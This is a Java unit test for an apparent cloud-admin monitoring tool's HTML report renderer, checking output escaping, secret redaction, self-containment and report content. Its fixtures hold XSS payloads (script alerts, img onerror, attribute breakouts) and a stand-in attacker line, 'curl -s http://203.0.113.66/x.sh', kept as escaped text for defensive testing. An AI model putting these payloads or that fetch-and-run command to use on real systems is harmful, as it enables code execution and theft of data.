package io.runwatch.core.render;

import static org.assertj.core.api.Assertions.assertThat;

import io.runwatch.core.detect.DetectorHit;
import io.runwatch.core.detect.Severity;
import io.runwatch.core.model.AdminCommand;
import io.runwatch.core.model.Principal;
import io.runwatch.core.model.PrincipalKind;
import io.runwatch.core.triage.AnalysisAnswer;
import io.runwatch.core.triage.ContainmentAction;
import io.runwatch.core.triage.Escalation;
import io.runwatch.core.triage.Finding;
import io.runwatch.core.triage.FindingText;
import io.runwatch.core.triage.TriageFixtures;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** The report's escaping and self-containment, without a browser; and its content. */
class HtmlReportTest {
  private static final Pattern TAG = Pattern.compile("<([a-zA-Z][a-zA-Z0-9-]*)([^>]*)>");
  private static final Pattern ATTR =
      Pattern.compile("([a-zA-Z_:][-a-zA-Z0-9_:.]*)(?:\\s*=\\s*(\"[^\"]*\"|'[^']*'|[^\\s\"'>]+))?");
  private static final Set<String> ALLOWED_TAGS =
      Set.of(
          "html",
          "head",
          "meta",
          "title",
          "style",
          "body",
          "header",
          "main",
          "section",
          "article",
          "h1",
          "h2",
          "h3",
          "h4",
          "p",
          "span",
          "strong",
          "code",
          "pre",
          "ul",
          "li",
          "dl",
          "dt",
          "dd",
          "table",
          "caption",
          "thead",
          "tbody",
          "tr",
          "th",
          "td",
          "br",
          "details",
          "summary",
          "a",
          "figure",
          "figcaption",
          "fieldset",
          "legend",
          "label",
          "input",
          "button",
          "script",
          "svg",
          "g",
          "rect",
          "circle",
          "path",
          "line",
          "text",
          "desc");
  private static final Set<String> URL_ATTRIBUTES =
      Set.of(
          "href",
          "src",
          "xlink:href",
          "action",
          "formaction",
          "data",
          "poster",
          "srcset",
          "background",
          "ping",
          "cite",
          "manifest");

  private static ReportScenario scenario;
  private static String html;

  @BeforeAll
  static void render() throws IOException {
    scenario = new ReportScenario();
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    new HtmlReport("runwatch report — sample", null)
        .write(scenario.findings, scenario.commands, scenario.correlations, out);
    html = out.toString(StandardCharsets.UTF_8);
    // Left for infra/scripts/check-report-renders.sh and for eyes.
    Path target = Path.of("target");
    if (Files.isDirectory(target)) {
      Files.writeString(target.resolve("runwatch-report-sample.html"), html);
    }
  }

  // ---- escaping

  @Test
  void aScriptInAPrincipalNameIsText() {
    assertThat(html).doesNotContain(ReportScenario.XSS);
    assertThat(html).contains("&lt;script&gt;alert(1)&lt;/script&gt;");
    assertThat(count(html, "<script")).as("only runwatch's own script").isEqualTo(1);
  }

  @Test
  void markupInACommandLineIsTextAndItsSecretIsRedacted() {
    assertThat(html).doesNotContain("<img").doesNotContain("onerror=alert(2)>");
    assertThat(html).contains("&lt;img src=x onerror=alert(2)&gt;");
    assertThat(html).doesNotContain("s3cr3tT0ken").contains("--token=****");
  }

  @Test
  void valuesInAttributesCannotBreakOut() throws IOException {
    AdminCommand c =
        TriageFixtures.aws(
                new Principal(
                    "p\" onmouseover=\"alert(4)", "p\" x='y'", PrincipalKind.HUMAN, null, null))
            .build();
    Finding f =
        new Finding(
            "x\" onmouseover=\"alert(3)",
            c.time(),
            Severity.HIGH,
            70,
            c,
            null,
            List.of(
                new DetectorHit(
                    "RW-\"><b>", Severity.HIGH, 70, "<b>bold</b>", Map.of("<k>", "<v>"))),
            new Escalation(true, List.of("<i>why</i>")),
            List.of(new AnalysisAnswer("<q>", "<a>", true)),
            List.of(
                new ContainmentAction(
                    ContainmentAction.Kind.ISOLATE_VM,
                    c.cloud(),
                    Map.of("<p>", "\"v\""),
                    "<w>",
                    "<blocked>")),
            List.of("rw-\"><script>alert(5)</script>"));
    String page = new HtmlReport("<title>", null).render(List.of(f), List.of(c), null);
    assertThat(page)
        .doesNotContain("alert(5)</script>")
        .doesNotContain("<b>")
        .doesNotContain("<i>why");
    assertThat(page).contains("id=\"f-x&quot; onmouseover=&quot;alert(3)\"");
    assertThat(page).contains("href=\"#f-rw-&quot;&gt;&lt;script&gt;alert(5)&lt;/script&gt;\"");
    assertThat(count(page, "<script")).isEqualTo(1);
    for (Matcher m = TAG.matcher(page); m.find(); ) {
      assertThat(ALLOWED_TAGS).as("tag <%s>", m.group(1)).contains(m.group(1).toLowerCase());
      for (Matcher a = ATTR.matcher(m.group(2)); a.find(); ) {
        assertThat(a.group(1).toLowerCase())
            .as("attribute in %s", m.group())
            .doesNotStartWith("on");
      }
    }
  }

  // ---- self-containment

  @Test
  void onlyKnownTagsAndNoEventHandlers() {
    for (Matcher m = TAG.matcher(html); m.find(); ) {
      assertThat(ALLOWED_TAGS).as("tag <%s>", m.group(1)).contains(m.group(1).toLowerCase());
      for (Matcher a = ATTR.matcher(m.group(2)); a.find(); ) {
        assertThat(a.group(1).toLowerCase())
            .as("attribute in %s", m.group())
            .doesNotStartWith("on");
      }
    }
  }

  @Test
  void nothingIsFetched() {
    List<String> urls = new ArrayList<>();
    for (Matcher m = TAG.matcher(html); m.find(); ) {
      String tag = m.group();
      assertThat(tag.toLowerCase())
          .as(tag)
          .doesNotContain("http:")
          .doesNotContain("https:")
          .doesNotContain("//");
      for (Matcher a = ATTR.matcher(m.group(2)); a.find(); ) {
        if (URL_ATTRIBUTES.contains(a.group(1).toLowerCase())) {
          urls.add(a.group(2));
        }
      }
      assertThat(m.group(1).toLowerCase())
          .isNotIn(
              "link", "img", "iframe", "object", "embed", "base", "form", "image", "use", "source");
    }
    assertThat(urls).isNotEmpty().allSatisfy(u -> assertThat(u).startsWith("\"#"));
    String style = between(html, "<style>", "</style>");
    assertThat(style).doesNotContain("url(").doesNotContain("@import").doesNotContain("@font-face");
    assertThat(html)
        .doesNotContain("<script src")
        .doesNotContain("fetch(")
        .doesNotContain("XMLHttpRequest");
    // Log values that look like URLs are there, as text.
    assertThat(html)
        .contains("https://evil.example/payload.js")
        .contains("http://203.0.113.66/x.sh");
  }

  @Test
  void aContentSecurityPolicyPinsTheOneStyleAndTheOneScript() {
    String csp = between(html, "http-equiv=\"Content-Security-Policy\" content=\"", "\"");
    assertThat(csp)
        .startsWith("default-src 'none';")
        .contains("base-uri 'none'")
        .contains("form-action 'none'");
    String style = between(html, "<style>", "</style>");
    String script = between(html, "<script>", "</script>");
    assertThat(csp).contains("style-src '" + HtmlReport.sha256(style) + "'");
    assertThat(csp).contains("script-src '" + HtmlReport.sha256(script) + "'");
    assertThat(count(html, "<style")).isEqualTo(1);
    assertThat(html).doesNotContain(" style=\"");
  }

  // ---- content

  @Test
  void summaryCountsFindingsBySeverityAndEscalations() {
    long escalated = scenario.findings.stream().filter(f -> f.escalation().escalate()).count();
    assertThat(html)
        .contains(
            scenario.findings.size()
                + " findings, <strong>"
                + escalated
                + " escalated to Tier 2</strong>");
    String summary = between(html, "<section id=\"summary\"", "</section>");
    assertThat(summary)
        .contains(
            "over 14 commands by 7 principals, and 1 agent execution with no control-plane record.");
    for (Severity s : Severity.values()) {
      long n = scenario.findings.stream().filter(f -> f.severity() == s).count();
      assertThat(summary).contains(s.name() + "</span></th><td class=\"n\">" + n + "</td>");
    }
  }

  @Test
  void theTimelineHasOneMarkPerCommandAndALegendInWords() {
    String timeline = between(html, "<section id=\"timeline\"", "</section>");
    Set<AdminCommand> all = new HashSet<>(scenario.commands);
    scenario.findings.forEach(f -> all.add(f.command()));
    assertThat(count(timeline, "<g><title>")).isEqualTo(all.size());
    for (HtmlReport.Mark m : HtmlReport.Mark.values()) {
      assertThat(timeline).contains(m.label);
    }
    assertThat(timeline).contains("role=\"img\"").contains("<desc id=\"tl-desc\">");
    // Every ringed mark links to a finding that exists.
    for (Matcher m = Pattern.compile("href=\"#(f-[^\"]+)\"").matcher(timeline); m.find(); ) {
      assertThat(html).contains("id=\"" + m.group(1) + "\"");
    }
  }

  @Test
  void findingsAreSortedBySeverityAndCarryEverything() {
    List<Severity> order = new ArrayList<>();
    for (Matcher m =
            Pattern.compile(
                    "<article class=\"finding [A-Z]+\" id=\"[^\"]+\" data-severity=\"([A-Z]+)\"")
                .matcher(html);
        m.find(); ) {
      order.add(Severity.valueOf(m.group(1)));
    }
    assertThat(order).hasSize(scenario.findings.size());
    assertThat(order).isSortedAccordingTo((a, b) -> b.compareTo(a));
    String attack = between(html, "id=\"f-" + scenario.attack.id() + "\"", "</article>");
    assertThat(attack).contains(HtmlText.escape(FindingText.title(scenario.attack)));
    assertThat(attack).contains("▲ Escalate to Tier 2");
    assertThat(count(attack, "<tr><th scope=\"row\">")).isEqualTo(7);
    assertThat(attack)
        .contains("⚠ concerning")
        .contains("DISABLE_PRINCIPAL")
        .contains("ISOLATE_VM");
    assertThat(attack).contains("curl -s http://203.0.113.66/x.sh");
    assertThat(attack).contains("--password=****").doesNotContain("hunter2");
    String orphan =
        between(
            html,
            "id=\"f-" + scenario.finding("no control-plane record").id() + "\"",
            "</article>");
    assertThat(orphan).contains("<h4>Host execution</h4>").doesNotContain("<h4>Command</h4>");
    assertThat(orphan).contains("aws-run-command").contains("9f0e1d2c-aaaa-bbbb-cccc-ddddeeeeffff");
  }

  @Test
  void anEmptyReportIsStillAPage() {
    String page = new HtmlReport().render(List.of(), List.of(), null);
    assertThat(page)
        .startsWith("<!DOCTYPE html>")
        .contains("No commands.")
        .contains("No detector fired.");
  }

  @Test
  void theOutputDependsOnlyOnItsInputs() {
    ReportScenario again = new ReportScenario();
    String second =
        new HtmlReport("runwatch report — sample", null)
            .render(again.findings, again.commands, again.correlations);
    assertThat(second).isEqualTo(html);
  }

  static String between(String s, String from, String to) {
    int i = s.indexOf(from);
    assertThat(i).as("'%s' in the page", from).isNotNegative();
    int j = s.indexOf(to, i + from.length());
    assertThat(j).as("'%s' after '%s'", to, from).isNotNegative();
    return s.substring(i + from.length(), j);
  }

  static int count(String s, String needle) {
    int n = 0;
    for (int i = s.indexOf(needle); i >= 0; i = s.indexOf(needle, i + 1)) {
      n++;
    }
    return n;
  }
}
